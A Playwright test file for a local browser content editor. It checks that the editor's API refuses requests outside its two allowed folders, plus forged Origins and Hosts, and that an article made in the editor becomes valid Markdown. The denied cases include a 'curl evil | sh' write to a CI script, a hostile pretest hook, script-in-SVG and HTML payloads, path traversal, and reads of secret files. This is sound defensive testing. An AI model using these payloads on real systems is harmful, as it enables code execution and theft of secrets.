// The browser editor (issue 49 point 7, issue 60): a marketer's steps in Decap CMS on a temporary
// copy of the repository's content and covers folders, then the file on disk and the entry the
// content loader makes of it; and the editor's API confined to those two folders and its own page.
import { spawn, type ChildProcess } from 'node:child_process';
import { cpSync, existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, unlinkSync, writeFileSync } from 'node:fs';
import { request } from 'node:http';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { expect, test } from '@playwright/test';
import { loadContent } from '../src/content/build/load.ts';

const port = Number(process.env.CONTENT_EDITOR_TEST_PORT ?? 4464);
const origin = `http://127.0.0.1:${port}`;
let workDir = '';
let contentCopy = '';
let editor: ChildProcess | undefined;

/** Files of a clone outside the two folders the editor may reach, each with what it holds. */
const outside: Record<string, string> = {
  'package.json': '{"name":"decoy","scripts":{}}\n',
  '.ci/run': '#!/bin/sh\necho ci\n',
  '.git/config': '[core]\n\tbare = false\n',
  '.env.server': 'SECRET=do-not-read\n',
  'public/index.html': '<!doctype html><title>decoy</title>\n',
  'public/images/avatars/someone.svg': '<svg xmlns="http://www.w3.org/2000/svg"/>\n',
};

test.beforeAll(async () => {
  workDir = mkdtempSync(path.join(tmpdir(), 'content-editor-'));
  contentCopy = path.join(workDir, 'content');
  cpSync(path.resolve('content'), contentCopy, { recursive: true });
  cpSync(path.resolve('public/images/covers'), path.join(workDir, 'public/images/covers'), { recursive: true });
  for (const [file, text] of Object.entries(outside)) {
    mkdirSync(path.dirname(path.join(workDir, file)), { recursive: true });
    writeFileSync(path.join(workDir, file), text);
  }
  editor = spawn(process.execPath, ['scripts/content-editor.ts'], {
    env: { ...process.env, CONTENT_DIR: contentCopy, CONTENT_EDITOR_PORT: String(port) },
    stdio: ['ignore', 'pipe', 'inherit'],
  });
  await new Promise<void>((resolve, reject) => {
    editor!.stdout!.on('data', (chunk: Buffer) => {
      if (chunk.toString('utf8').includes('content editor for')) resolve();
    });
    editor!.on('exit', (code) => reject(new Error(`the content editor stopped (exit ${code})`)));
  });
});

test.afterAll(() => {
  editor?.kill();
  if (workDir) rmSync(workDir, { recursive: true, force: true });
});

/** One request to the editor with the given Host, Origin and path; the status and the body. */
function send(options: { path: string; host?: string; origin?: string; body?: unknown }): Promise<{ status: number; body: string }> {
  return new Promise((resolve, reject) => {
    const headers: Record<string, string> = { Host: options.host ?? `127.0.0.1:${port}`, 'Content-Type': 'application/json' };
    if (options.origin !== '') headers.Origin = options.origin ?? origin;
    const req = request({ host: '127.0.0.1', port, path: options.path, method: options.body === undefined ? 'GET' : 'POST', headers }, (res) => {
      const chunks: Buffer[] = [];
      res.on('data', (c: Buffer) => chunks.push(c));
      res.on('end', () => resolve({ status: res.statusCode ?? 0, body: Buffer.concat(chunks).toString('utf8') }));
    });
    req.on('error', reject);
    req.end(options.body === undefined ? undefined : JSON.stringify(options.body));
  });
}

const png = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==', 'base64');

test('the editor API reaches content/ and the covers folder only, from its own page with its token', async () => {
  // A link inside the content folder that leads out of it (removed at the end: the loader would refuse it).
  const link = path.join(contentCopy, 'articles', 'linked.md');
  symlinkSync(path.join(workDir, 'package.json'), link);
  const config = JSON.parse((await send({ path: '/config.json' })).body) as { backend: { proxy_url: string }; media_folder: string };
  const api = new URL(config.backend.proxy_url).pathname;
  expect(api).toMatch(/^\/api\/v1\/[\w-]{43}$/);
  expect(config.media_folder).toBe('public/images/covers');
  const entry = (file: string, raw: string) => ({ entry: { slug: 'x', path: file, raw }, assets: [] });
  const media = (file: string, content: Buffer) => ({ asset: { path: file, content: content.toString('base64'), encoding: 'base64' }, options: { commitMessage: 'Upload' } });
  const tries: { what: string; options: Parameters<typeof send>[0]; status: number }[] = [
    { what: 'read an article (allowed)', options: { path: api, body: { action: 'getEntry', params: { branch: 'main', path: 'content/articles/ai-agent-orchestration-2025.md' } } }, status: 200 },
    { what: 'upload a PNG cover (allowed)', options: { path: api, body: { action: 'persistMedia', params: { branch: 'main', ...media('public/images/covers/new-cover.png', png) } } }, status: 200 },
    { what: 'read package.json', options: { path: api, body: { action: 'getEntry', params: { branch: 'main', path: 'package.json' } } }, status: 403 },
    { what: 'read .env.server', options: { path: api, body: { action: 'entriesByFiles', params: { branch: 'main', files: [{ path: '.env.server' }] } } }, status: 403 },
    { what: 'read .git/config', options: { path: api, body: { action: 'getMediaFile', params: { branch: 'main', path: '.git/config' } } }, status: 403 },
    { what: 'list the repository root', options: { path: api, body: { action: 'entriesByFolder', params: { branch: 'main', folder: '.', extension: 'json', depth: 1 } } }, status: 403 },
    { what: 'list .git/', options: { path: api, body: { action: 'getMedia', params: { branch: 'main', mediaFolder: '.git' } } }, status: 403 },
    { what: 'read package.json through content/../', options: { path: api, body: { action: 'getEntry', params: { branch: 'main', path: 'content/../package.json' } } }, status: 403 },
    { what: 'read a link in content/ that leads to package.json', options: { path: api, body: { action: 'getEntry', params: { branch: 'main', path: 'content/articles/linked.md' } } }, status: 403 },
    { what: 'read public/index.html', options: { path: api, body: { action: 'getMediaFile', params: { branch: 'main', path: 'public/index.html' } } }, status: 403 },
    { what: 'read an avatar (public/ outside covers)', options: { path: api, body: { action: 'getMediaFile', params: { branch: 'main', path: 'public/images/avatars/someone.svg' } } }, status: 403 },
    { what: 'write package.json (a pretest script)', options: { path: api, body: { action: 'persistEntry', params: { branch: 'main', ...entry('package.json', '{"scripts":{"pretest":"touch owned"}}') } } }, status: 403 },
    { what: 'write .ci/run', options: { path: api, body: { action: 'persistEntry', params: { branch: 'main', ...entry('.ci/run', 'curl evil | sh') } } }, status: 403 },
    { what: 'write .git/config', options: { path: api, body: { action: 'persistEntry', params: { branch: 'main', ...entry('content/articles/a.md', '---\n---\n'), dataFiles: [{ slug: 'a', path: '.git/config', raw: '[core]' }] } } }, status: 403 },
    { what: 'move an article onto package.json', options: { path: api, body: { action: 'persistEntry', params: { branch: 'main', entry: { slug: 'x', path: 'content/articles/x.md', raw: '---\n---\n', newPath: 'package.json' }, assets: [] } } }, status: 403 },
    { what: 'write an HTML page under public/', options: { path: api, body: { action: 'persistMedia', params: { branch: 'main', ...media('public/owned.html', Buffer.from('<script>alert(1)</script>')) } } }, status: 403 },
    { what: 'write an HTML page in the covers folder', options: { path: api, body: { action: 'persistMedia', params: { branch: 'main', ...media('public/images/covers/owned.html', Buffer.from('<script>alert(1)</script>')) } } }, status: 403 },
    { what: 'write a cover with an entry into package.json', options: { path: api, body: { action: 'persistEntry', params: { branch: 'main', ...entry('content/articles/y.md', '---\n---\n'), assets: [{ path: 'package.json', content: png.toString('base64'), encoding: 'base64' }] } } }, status: 403 },
    { what: 'upload an SVG cover with a script', options: { path: api, body: { action: 'persistMedia', params: { branch: 'main', ...media('public/images/covers/bad.svg', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>')) } } }, status: 422 },
    { what: 'upload a PNG cover that is not a PNG', options: { path: api, body: { action: 'persistMedia', params: { branch: 'main', ...media('public/images/covers/fake.png', Buffer.from('<html></html>')) } } }, status: 422 },
    { what: 'upload a 1.5 MB cover', options: { path: api, body: { action: 'persistMedia', params: { branch: 'main', ...media('public/images/covers/big.png', Buffer.concat([png, Buffer.alloc(1_500_000)])) } } }, status: 422 },
    { what: 'delete package.json', options: { path: api, body: { action: 'deleteFile', params: { branch: 'main', path: 'package.json' } } }, status: 403 },
    { what: 'delete .ci/run among articles', options: { path: api, body: { action: 'deleteFiles', params: { branch: 'main', paths: ['content/articles/nothing.md', '.ci/run'] } } }, status: 403 },
    { what: 'an action the editor does not use (unpublishedEntries)', options: { path: api, body: { action: 'unpublishedEntries', params: { branch: 'main' } } }, status: 403 },
    { what: 'read an article without the token', options: { path: '/api/v1', body: { action: 'getEntry', params: { branch: 'main', path: 'content/articles/ai-agent-orchestration-2025.md' } } }, status: 403 },
    { what: 'read an article with a wrong token', options: { path: `${api.slice(0, -4)}AAAA`, body: { action: 'getEntry', params: { branch: 'main', path: 'content/articles/ai-agent-orchestration-2025.md' } } }, status: 403 },
    { what: 'read an article from another Origin', options: { path: api, origin: 'http://evil.example', body: { action: 'getEntry', params: { branch: 'main', path: 'content/articles/ai-agent-orchestration-2025.md' } } }, status: 403 },
    { what: 'read an article with no Origin', options: { path: api, origin: '', body: { action: 'getEntry', params: { branch: 'main', path: 'content/articles/ai-agent-orchestration-2025.md' } } }, status: 403 },
    { what: 'read an article with another Host (DNS rebinding)', options: { path: api, host: `evil.example:${port}`, origin: `http://evil.example:${port}`, body: { action: 'getEntry', params: { branch: 'main', path: 'content/articles/ai-agent-orchestration-2025.md' } } }, status: 421 },
    { what: 'the page with another Host', options: { path: '/', host: `evil.example:${port}` }, status: 421 },
    { what: 'the configuration (and its token) with another Host', options: { path: '/config.json', host: `evil.example:${port}` }, status: 421 },
  ];
  const answers: string[] = [];
  try {
    for (const t of tries) {
      const answer = await send(t.options);
      answers.push(`${answer.status === t.status ? 'ok  ' : 'FAIL'} ${t.what}: ${answer.status} ${answer.body.slice(0, 110)}`);
    }
  } finally {
    unlinkSync(link);
  }
  console.log(`The editor's API, each request and its answer:\n${answers.join('\n')}`);
  expect(answers.filter((a) => a.startsWith('FAIL'))).toEqual([]);
  expect(JSON.parse((await send(tries[0]!.options)).body)).toMatchObject({ file: { path: 'content/articles/ai-agent-orchestration-2025.md' } });
  for (const [file, text] of Object.entries(outside)) expect(readFileSync(path.join(workDir, file), 'utf8'), file).toBe(text);
  for (const file of ['owned', 'public/owned.html', 'public/images/covers/owned.html', 'public/images/covers/bad.svg', 'public/images/covers/fake.png', 'public/images/covers/big.png']) {
    expect(existsSync(path.join(workDir, file)), file).toBe(false);
  }
  expect(readFileSync(path.join(workDir, 'public/images/covers/new-cover.png'))).toEqual(png);
});

test('an article created in the browser editor is written as a Markdown file the build accepts', async ({ page }) => {
  await page.goto(`http://127.0.0.1:${port}/#/collections/articles/new`);
  await page.getByRole('button', { name: 'Login' }).click();

  await page.getByLabel('Title', { exact: true }).fill('Agents in the Back Office: A First Month');
  await page.getByLabel('Excerpt', { exact: true }).fill('What a finance team learned in its first month with agents.');
  await page.getByLabel('Teaser', { exact: true }).fill('Four weeks, three agents, one month-end close.');
  await page.getByLabel('Name', { exact: true }).fill('Dr. Maya Chen');
  await page.getByLabel('Role', { exact: true }).fill('Co-founder & CEO');
  await page.getByLabel('Date', { exact: true }).fill('2026-11-20');
  await page.getByLabel('Category', { exact: true }).click();
  await page.getByRole('option', { name: 'Engineering' }).click();
  await page.getByRole('button', { name: 'Add Tags' }).click();
  await page.getByLabel('Item', { exact: true }).fill('Operations');
  await page.getByLabel('Cover alt', { exact: true }).fill('A ledger with three agent icons');
  await page.locator('[data-slate-editor]').click();
  await page.keyboard.type('The close took **four days** instead of nine.');

  await page.getByRole('button', { name: 'Publish' }).click();
  await page.getByText('Publish now').click();
  await expect(page.getByRole('button', { name: 'Published' })).toBeVisible();

  const file = path.join(contentCopy, 'articles', 'agents-in-the-back-office-a-first-month.md');
  expect(readFileSync(file, 'utf8')).toBe(
    [
      '---',
      'title: "Agents in the Back Office: A First Month"',
      'excerpt: What a finance team learned in its first month with agents.',
      'teaser: Four weeks, three agents, one month-end close.',
      'author:',
      '  name: Dr. Maya Chen',
      '  role: Co-founder & CEO',
      'date: 2026-11-20',
      'category: Engineering',
      'tags:',
      '  - Operations',
      'coverAlt: A ledger with three agent icons',
      '---',
      'The close took **four days** instead of nine.',
      '',
    ].join('\n'),
  );
  const article = loadContent({ dir: contentCopy, drafts: true }).articles.find((a) => a.id === 'agents-in-the-back-office-a-first-month');
  expect(article).toMatchObject({ title: 'Agents in the Back Office: A First Month', date: '2026-11-20', category: 'Engineering', tags: ['Operations'], readTime: 1 });
  expect(article?.html).toBe('<p>The close took <strong>four days</strong> instead of nine.</p>');
});
